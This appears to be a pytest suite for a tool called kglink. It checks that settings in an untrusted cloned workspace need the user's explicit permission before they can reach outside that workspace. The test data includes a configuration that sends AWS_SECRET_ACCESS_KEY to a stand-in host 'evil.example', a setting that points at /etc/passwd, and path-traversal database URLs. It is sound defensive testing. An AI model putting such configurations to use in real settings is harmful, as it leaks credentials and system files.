"""What a workspace's settings ask for outside of it counts once its user has allowed the file."""

from __future__ import annotations

import hashlib
import inspect
import json
import os
import shutil
from pathlib import Path
from typing import Any, ClassVar, get_args

import pytest
from conftest import Kglink

from kglink.config import Section, Settings, all_settings, load_settings, setting_descriptions
from kglink.errors import ConfigError
from kglink.plugins import KINDS, PluginSettings, load_registry
from kglink.plugins.settings import setting_keys
from kglink.workspace import Workspace, init_workspace
from kglink.workspace.trust import asks_of

LLM = '[link]\nreranker = "kglink/llm"\n[link.reranker_settings]\nurl = "https://evil.example/v1"\n'
SECRET = LLM + 'model = "m"\nkey_from = "AWS_SECRET_ACCESS_KEY"\n'


@pytest.fixture
def clone(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A folder of a stranger that the user has unpacked, and so owns."""
    folder = tmp_path / "clone"
    folder.mkdir()
    (folder / "kglink.toml").write_text(SECRET)
    monkeypatch.delenv("KGLINK_WORKSPACE", raising=False)
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
    monkeypatch.chdir(folder)
    return folder


def opens(folder: Path) -> bool:
    """Whether the workspace is opened, with whatever its settings ask for."""
    try:
        Workspace.open(folder).close()
    except ConfigError as error:
        if "asks for what you have not allowed" not in error.message:
            raise
        return False
    return True


def asked(folder: Path, text: str, **environment: str) -> list[str]:
    """The settings of a file with this text that ask for something outside."""
    (folder / "kglink.toml").write_text(text)
    resolved = load_settings(folder / "kglink.toml", env=environment)
    return [one.setting for one in asks_of(folder, resolved, load_registry())]


def test_it_says_which_setting_asks_for_what_until_it_is_allowed(
    kglink: Kglink, clone: Path
) -> None:
    for command in (["kbs"], ["search", "x"], ["--workspace", clone, "kbs"], ["spaces"]):
        said = kglink(*command, code=2).err
        assert 'link.reranker_settings.url = "https://evil.example/v1" (sends the texts' in said
        assert 'key_from = "AWS_SECRET_ACCESS_KEY" (sends the value of that environ' in said
        assert f"kglink --workspace {clone} trust" in said
    assert [path.name for path in clone.iterdir()] == ["kglink.toml"]
    assert "not allowed: link.reranker_settings.url" in kglink("settings").err
    assert "asks for what you have not allowed" in kglink("doctor", code=1).out
    assert "allowed    link.reranker_settings.key_from" in kglink("trust").err
    kglink("kbs")
    assert "you allow kglink.toml to set link.reranker" in kglink("doctor").out
    assert "not allowed" not in kglink("settings").err


def test_what_was_allowed_is_that_file_in_that_folder(
    kglink: Kglink, clone: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    kglink("trust")
    shutil.copytree(clone, tmp_path / "copy")
    assert not opens(tmp_path / "copy")
    for make in (Path.symlink_to, Path.hardlink_to):
        folder = tmp_path / make.__name__
        folder.mkdir()
        make(folder / "kglink.toml", clone / "kglink.toml")
        assert not opens(folder)
    kglink("--workspace", tmp_path / "symlink_to", "trust")
    assert opens(tmp_path / "symlink_to")
    (clone / "kglink.toml").write_text(SECRET.replace("evil", "worse"))
    assert not opens(clone)
    assert not opens(tmp_path / "symlink_to")
    kglink("trust")
    assert opens(clone)
    assert "no longer allowed" in kglink("trust", "--revoke").err
    assert "was not allowed" in kglink("trust", "--revoke").err
    assert not opens(clone)
    # What asks for nothing needs no leave, before and after.
    (clone / "kglink.toml").write_text("[link]\ntop_k = 3\n")
    assert opens(clone)


def test_the_list_is_the_users_and_a_damaged_one_allows_nothing(
    kglink: Kglink, clone: Path, tmp_path: Path
) -> None:
    kglink("trust")
    kept = tmp_path / "config" / "kglink" / "allowed.json"
    assert json.loads(kept.read_text()) == {str(clone): hashlib.sha256(SECRET.encode()).hexdigest()}
    for damage in ("", "[]", "{", "[" * 100_000, json.dumps({str(clone): None})):
        kept.write_text(damage)
        assert not opens(clone)
    kglink("trust")
    assert opens(clone)
    shutil.rmtree(kept.parent)
    kept.parent.write_text("no folder")
    assert f"KGLINK_TRUST={clone}" in kglink("trust", code=2).err


@pytest.mark.parametrize("how", ["folder", "relative", "digest", "other", "near"])
def test_ci_allows_by_a_variable(clone: Path, how: str, monkeypatch: pytest.MonkeyPatch) -> None:
    digest = hashlib.sha256(SECRET.encode()).hexdigest()
    named = {
        "folder": f"/elsewhere:{clone}", "relative": ".", "digest": digest,
        "other": f"{'0' * 64}:{clone.parent}", "near": digest[:-1],
    }[how]  # fmt: skip
    monkeypatch.setenv("KGLINK_TRUST", named)
    assert opens(clone) == (how not in ("other", "near"))


def test_python_has_the_same_rule(clone: Path) -> None:
    with pytest.raises(ConfigError, match=r"not allowed.*evil") as told:
        Workspace.open(clone)
    assert "trust=True" in told.value.hint
    with Workspace.open(clone, trust=True) as workspace:
        assert workspace.with_settings({"link.top_k": 2}).settings.link.reranker == "kglink/llm"
        assert any(one.what == "trust" and one.state == "ok" for one in workspace.doctor())
    # A table that nobody reads asks for nothing, until somebody does.
    (clone / "kglink.toml").write_text(SECRET.replace('reranker = "kglink/llm"\n', ""))
    with (
        Workspace.open(clone) as workspace,
        pytest.raises(ConfigError, match=r"reranker_settings\.url"),
    ):
        workspace.with_settings({"link.reranker": "kglink/llm"})
    with pytest.raises(ConfigError, match=r"reranker_settings\.url"):
        Workspace.open(clone, flags={"link.reranker": "llm"})


def test_variables_and_flags_are_the_users_own(
    clone: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    own = {"url": "http://127.0.0.1:9/v1", "model": "m"}
    monkeypatch.setenv("KGLINK_LINK_RERANKER_SETTINGS", json.dumps(own))
    Workspace.open(clone, flags={"link.reranker": "kglink/llm", "store.url": "sqlite:////x"})
    with pytest.raises(ConfigError, match=r"link\.reranker ="):
        Workspace.open(clone)


def test_what_kglink_makes_itself_needs_no_leave(kglink: Kglink, tmp_path: Path) -> None:
    folder = init_workspace(tmp_path / "own")
    kglink("--workspace", folder, "kbs")
    assert "names nothing outside" in kglink("--workspace", folder, "doctor").out


# ---------------------------------------------------------------------------- which settings ask
@pytest.mark.parametrize(
    ("text", "asks"),
    [
        ('[store]\nurl = "sqlite:///kglink.db"', 0),
        ('[store]\nurl = "sqlite:///data/../own.db"', 0),
        ('[store]\nurl = "sqlite:///../kglink.db"', 1),
        ('[store]\nurl = "sqlite:////tmp/kglink.db"', 1),
        ('[store]\nurl = "sqlite:///kglink.db?vfs=x"', 1),
        ('[store]\nurl = "sqlite:///%2e%2e/kglink.db"', 1),
        ('[store]\nurl = "sqlite:///%2Ftmp%2Fkglink.db"', 1),
        ('[store]\nurl = "sqlite+other:///kglink.db"', 1),
        ('[store]\nurl = "postgresql://db.example/kglink"', 1),
        ('[encoder]\nmodel = "minilm"\ndevice = "cpu"', 0),
        ('[encoder]\nmodel = "own-model"', 0),
        ('[encoder]\nmodel = "someone/model"', 1),
        ('[encoder]\nmodel = "linked-model"', 1),
        ('[overlap]\nmodel = "/models/x"\nevidence = ["names"]', 1),
        ('[link]\nreranker = "llm"', 1),
        ('[link]\nreranker = "nobody/knows"\n[link.reranker_settings]\nurl = "x"', 0),
        ('[link.reranker_settings]\nurl = "x"', 0),
        ('[link]\ndetector = "learned"\n[link.detector_settings]\nrecall = 0.5', 0),
        ('[link]\ndetector = ["learned", "capitals"]', 0),
        ('[link.detector_settings]\nmin_chars = 2\nstop_words = "a"', 0),
        ('[link.detector_settings]\nmodel = "/models/x"', 1),
        ('[link.detector_settings]\nmodel = ""', 0),
        ('[link]\ndetector = ["gliner"]\n[link.detector_settings]\n"gliner.folder" = "/x"', 1),
        ('[link.input_settings]\ntrain_ids = "/etc/passwd"\ntitle = "x"', 1),
        ('[space]\nindex = "kglink/factory"\n[space.index_settings]\nfactory = "HNSW32"', 0),
    ],
)
def test_which_settings_ask(clone: Path, text: str, asks: int) -> None:
    (clone / "own-model").mkdir()
    (clone / "linked-model").symlink_to(clone.parent)
    assert len(asked(clone, text)) == asks


def test_a_link_leads_no_store_out_of_the_workspace(clone: Path, tmp_path: Path) -> None:
    (tmp_path / "private").mkdir()
    (clone / "kglink.db").symlink_to(tmp_path / "private" / "kglink.db")
    (clone / "data").symlink_to(tmp_path / "private")
    for text in ("", '[store]\nurl = "sqlite:///data/kglink.db"\n'):
        (clone / "kglink.toml").write_text(text)
        with Workspace.open(clone) as workspace, pytest.raises(ConfigError, match="leads out"):
            workspace.kbs()
    assert not list((tmp_path / "private").iterdir())
    with Workspace.open(clone, flags={"store.url": "sqlite:///data/kglink.db"}) as workspace:
        assert workspace.kbs() == []


class Undeclared(PluginSettings):
    """Of a plugin that says nothing of what it reaches."""

    loud: bool = False


class Declared(PluginSettings):
    """Of a plugin that says what it reaches."""

    outside: ClassVar[Any] = {"host": "asks there"}

    host: str = ""
    loud: bool = False


class Heir(Declared):
    """It has a setting of which nobody has said anything."""

    proxy: str = ""


class Home(PluginSettings):
    """Of a plugin that reaches out unless it is told otherwise."""

    outside: ClassVar[Any] = {"host": "asks there"}

    host: str = "https://vendor.example"


@pytest.mark.parametrize(
    ("settings", "table", "asks"),
    [
        (None, "", ["link.clusterer"]),
        (Undeclared, "loud = true", ["link.clusterer", "link.clusterer_settings.loud"]),
        (Declared, "loud = true", []),
        (Declared, 'loud = true\nhost = "x"', ["link.clusterer_settings.host"]),
        (Heir, 'proxy = "x"', ["link.clusterer", "link.clusterer_settings.proxy"]),
        (Home, "", ["link.clusterer"]),
    ],
)
def test_a_plugin_of_others_asks_for_all_that_it_does_not_declare(
    clone: Path, monkeypatch: pytest.MonkeyPatch, settings: Any, table: str, asks: list[str]
) -> None:
    registry = load_registry(only="builtin")
    known = registry.get("clusterer", "mentions")
    from dataclasses import replace

    other = replace(
        known, name="acme/cloud", settings=settings or PluginSettings,
        provider=replace(known.provider, builtin=False),
    )  # fmt: skip
    monkeypatch.setitem(registry._plugins, ("clusterer", "acme/cloud"), other)
    (clone / "kglink.toml").write_text(
        f'[link]\nclusterer = "acme/cloud"\n[link.clusterer_settings]\n{table}\n'
    )
    resolved = load_settings(clone / "kglink.toml", env={})
    assert [one.setting for one in asks_of(clone, resolved, registry)] == asks


#: Words of built-in settings that name nothing outside, each looked at by a person.
HARMLESS = {
    "store": set(), "ingest": {"encoding"}, "encoder": {"device"}, "space": {"name"},
    "link": {"language", "kbs", "types", "under", "not_under", "prefer"}, "overlap": set(),
}  # fmt: skip


def test_every_setting_that_is_a_word_is_declared_or_was_looked_at() -> None:
    for section, field in Settings.model_fields.items():
        kind = field.annotation
        assert isinstance(kind, type)
        assert issubclass(kind, Section)
        tables = {f"{key}_settings" for key in kind.plugins}
        known = {*kind.outside, *kind.plugins, *tables, *HARMLESS[section]}
        for name, one in all_settings():
            if name.startswith(f"{section}.") and _is_open(one.annotation):
                assert name.partition(".")[2] in known, name
        assert set(kind.plugins.values()) <= set(KINDS)


def test_every_path_of_a_built_in_plugin_is_declared() -> None:
    plugins = [one for one in load_registry(only="builtin").plugins() if one.provider.builtin]
    for plugin in plugins:
        declared = plugin.settings.outside or {}
        assert set(declared) <= set(setting_keys(plugin.settings))
        descriptions = setting_descriptions(plugin.settings)
        for name, field in plugin.settings.model_fields.items():
            told = descriptions[name].lower()
            names_a_place = field.annotation is Path or (
                "file with" in told or "folder of" in told or "environment variable" in told
            )
            assert not names_a_place or name in declared, (plugin.name, name)


def _is_open(annotation: Any) -> bool:
    """Whether any text may be a value of this type."""
    return (
        annotation in (str, Path)
        or any(map(_is_open, get_args(annotation)[:1]))
        or (inspect.isclass(annotation) and issubclass(annotation, os.PathLike))
    )


def test_a_database_address_with_nul_is_none(clone: Path) -> None:
    (clone / "kglink.toml").write_text('[store]\nurl = "sqlite:///a\\u0000b.db"\n')
    with Workspace.open(clone) as workspace, pytest.raises(ConfigError, match="no database addr"):
        assert workspace.store
